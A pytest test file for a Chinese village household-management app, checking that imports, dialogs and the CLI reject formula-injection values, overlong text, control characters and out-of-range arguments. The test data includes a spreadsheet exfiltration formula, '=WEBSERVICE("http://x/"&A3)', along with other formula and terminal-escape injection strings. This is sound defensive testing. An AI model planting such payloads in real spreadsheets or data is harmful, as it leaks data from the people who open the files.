"""Text at the door beyond the roster: households (a 900-character head or settlement and
a head "=1+1" were imported and printed), prose fields (an ESC in a commitment reached
every export), and the CLI's refusals in Chinese."""

from __future__ import annotations

import pytest

import main
from dahe_desktop.importing.households import apply_household_import, preview_household_import
from dahe_desktop.pairing.service import HouseholdData, PairingError, save_household
from dahe_desktop.textnorm import clean_prose
from db.models import Household
from tests.core.test_commitments_data import commit
from tests.fixtures.rosters import write_csv
from tests.helpers.pairing import VILLAGE, small_village

HEADER = ["户主", "所在村", "居住点", "家庭人口", "联系电话", "户类别", "外出党员", "备注"]


def test_household_rows_with_formulas_or_overlong_text_are_bad_rows(db, tmp_path):
    small_village()
    before = Household.select().count()
    rows = [
        ["=1+1", "扎西村", "一社", 3, None, "一般户", None, None],
        ["长" * 900, "扎西村", "一社", 3, None, "一般户", None, None],
        ["甲", "扎西村", "社" * 41, 3, None, "一般户", None, None],
        ["乙", "扎西村", "一社", 3, None, "一般户", None, '=WEBSERVICE("http://x/"&A3)'],
        ["丙\x1b[31m", "扎\u200b西村", "一社\x07", 3, None, "一般户", None, None],  # cleaned: a good row
    ]
    preview = preview_household_import(write_csv(tmp_path / "hh.csv", rows, encoding="utf-8", header=HEADER))
    assert {b.row: b.text for b in preview.bad} == {
        2: "户主姓名不能以=、+、-、@开头（Excel会当作公式），请去掉开头的符号",
        3: "户主姓名过长（最多20个字，现为900个字）",
        4: "居住点过长（最多40个字，现为41个字）",
        5: "备注不能以=、+、-、@开头（Excel会当作公式），请去掉开头的符号",
    }
    [good] = preview.good
    assert (good.data.head, good.data.settlement) == ("丙[31m", "一社")
    with pytest.raises(Exception):  # noqa: B017 - all or nothing: the bad rows refuse the file
        apply_household_import(preview)
    assert Household.select().count() == before


def test_the_household_dialog_refuses_the_same(db):
    ids = small_village()
    for data, says in (
        (HouseholdData("+SUM(A1)", ids[VILLAGE], "一社", 3), "户主姓名不能以"),
        (HouseholdData("户主", ids[VILLAGE], "社" * 41, 3), "居住点过长"),
        (HouseholdData("户主", ids[VILLAGE], "一社", 3, notes="注" * 501), "备注过长"),
    ):
        with pytest.raises(PairingError) as refused:
            save_household(data)
        assert refused.value.lines[0].startswith(says)


def test_prose_loses_control_and_invisible_characters(db):
    assert clean_prose("修缮\x07村道\u200b，\x1b[31m　完") == "修缮 村道， [31m 完"
    ids = small_village()
    [cid] = commit(ids["卓玛"], ["修缮\x1b]0;x\x07村道"])
    from db.models import Commitment

    assert Commitment.get_by_id(cid).content == "修缮 ]0;x 村道"


@pytest.mark.parametrize("what", ["roster", "households"])
def test_an_export_without_xlsx_is_refused_in_chinese(data_dir, tmp_path, capsys, what):
    assert main.main(["--data-dir", str(data_dir), "export", what, str(tmp_path / "out.csv")]) == 1
    assert capsys.readouterr().err.strip().endswith("导出的是Excel工作簿，请用 .xlsx 作为文件扩展名")


@pytest.mark.parametrize("given", ["99999999999999999999", "-5", "abc", "２０２６x"])
def test_a_year_option_out_of_range_is_refused_before_anything_runs(data_dir, capsys, given):
    # 99999999999999999999 was an OverflowError traceback from SQLite; -5 was planned.
    with pytest.raises(SystemExit) as stopped:
        main.main(["--data-dir", str(data_dir), "appraisal", "results", "--year", given, "--branch", "大河村党支部"])
    assert stopped.value.code == 2
    assert f"“{given}”不是年份，请写1949到2100之间的四位数年份" in capsys.readouterr().err


def test_huge_counts_on_the_command_line_are_refused_in_chinese(data_dir, tmp_path, capsys):
    # --reps 100000000 ran for minutes filling the memory; --days 99999999999 overflowed.
    with pytest.raises(SystemExit):
        main.main(["--data-dir", str(data_dir), "print", "ballots", "--year", "2026", "--branch", "大河村党支部",
                   "--reps", "100000000", str(tmp_path / "b.pdf")])  # fmt: skip
    assert "“100000000”应为0到2000之间的整数（张）" in capsys.readouterr().err
    assert main.main(["--data-dir", str(data_dir), "print", "commitment-notice", "--year", "2026", "--branch", "甲",
                      "--days", "99999999999", str(tmp_path / "n.pdf")]) == 1  # fmt: skip
    assert "--days: 公示天数应为1到365之间的整数" in capsys.readouterr().err
